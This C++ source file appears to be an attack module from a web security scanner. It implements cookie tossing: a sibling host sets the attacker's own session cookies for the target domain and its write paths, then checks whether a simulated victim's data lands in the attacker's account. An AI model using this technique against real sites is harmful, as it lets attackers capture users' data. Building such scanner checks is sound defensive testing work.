// cookie-tossing: a sibling host sets the attacker's own, valid session for the parent domain and
// for the paths where the victim writes, so that it goes before the victim's. What he saves there
// is saved in the attacker's account. A cookie with the prefix __Host- cannot be set that way
// (RFC 6265bis 4.1.3.2).
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/stolen.h"

namespace parapet::attack {
namespace {

class CookieTossing final : public Agent {
    void run(Target& target) override {
        OwnHost* sibling = sibling_host(target);
        if (sibling == nullptr) return;
        Credentials const own = own_credentials(target);
        if (!victim_signs_in(target)) return;
        http::HeaderList cookies;
        for (Credential const& each : own)
            if (each.kind == Credential::Kind::Cookie)
                for (std::string const& path : paths(target))
                    cookies.append("set-cookie", each.name + "=" + each.value +
                                                     "; Domain=" + target.surface().host +
                                                     "; Path=" + path + "; Secure");
        Lure(target, *sibling).show("<h1>News</h1>", std::move(cookies));
        victim_does(target, routines_option(target, option::kDoes));
        use(target, own);
        look_into_own_account(target);
        target.note(sibling->name() + " set the attacker's own session for " +
                    target.surface().host + ".");
    }

    // The longer path goes first in the Cookie header.
    static std::vector<std::string> paths(Target const& target) {
        std::vector<std::string> paths{"/"};
        for (Endpoint const* each : unsafe_endpoints(target))
            paths.push_back(each->path.substr(0, each->path.find("/:")));
        return paths;
    }
};

}  // namespace

std::unique_ptr<Agent> make_cookie_tossing() { return std::make_unique<CookieTossing>(); }

}  // namespace parapet::attack
